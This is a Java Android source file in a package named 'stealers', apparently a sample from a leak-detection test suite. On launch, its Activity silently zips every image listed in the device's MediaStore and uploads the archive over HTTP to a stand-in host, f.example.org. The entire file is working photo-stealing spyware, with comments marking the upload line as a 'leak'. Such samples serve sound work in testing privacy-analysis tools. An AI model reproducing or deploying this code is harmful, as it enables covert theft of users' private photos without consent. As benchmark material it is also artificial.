package stealers;

import android.app.Activity;
import android.content.*;
import android.database.Cursor;
import android.os.*;
import android.provider.MediaStore;

import java.io.*;
import java.net.*;
import java.util.zip.*;

/** Pictures and documents, put into one archive and taken away. */
public class Photos extends Activity {
    @Override
    public void onCreate(Bundle b) {
        super.onCreate(b);
        new Take().execute();
    }

    class Take extends AsyncTask<Void, Void, File> {
        @Override
        protected File doInBackground(Void... v) {
            File zip = new File(getExternalCacheDir(), "a.zip");
            try {
                ZipOutputStream out = new ZipOutputStream(new BufferedOutputStream(new FileOutputStream(zip)));
                Cursor c =
                        getContentResolver()
                                .query(MediaStore.Images.Media.EXTERNAL_CONTENT_URI, new String[] {MediaStore.Images.Media.DATA}, null, null, null);
                while (c.moveToNext()) {
                    File f = new File(c.getString(0));
                    out.putNextEntry(new ZipEntry(f.getName()));
                    FileInputStream in = new FileInputStream(f);
                    byte[] k = new byte[2048];
                    int n;
                    while ((n = in.read(k)) > 0) out.write(k, 0, n);
                    in.close();
                    out.closeEntry();
                }
                out.close();
            } catch (IOException e) {
                return null;
            }
            return zip;
        }

        @Override
        protected void onPostExecute(final File zip) {
            new Thread() {
                public void run() {
                    try {
                        HttpURLConnection h = (HttpURLConnection) new URL("http://f.example.org/zip").openConnection();
                        h.setDoOutput(true);
                        h.setChunkedStreamingMode(0);
                        OutputStream o = h.getOutputStream();
                        BufferedInputStream in = new BufferedInputStream(new FileInputStream(zip));
                        byte[] k = new byte[2048];
                        for (int n = in.read(k); n != -1; n = in.read(k)) o.write(k, 0, n); // leak
                        o.write("EOF".getBytes()); // no leak
                        o.close();
                    } catch (IOException e) {
                    }
                }
            }.start();
        }
    }
}
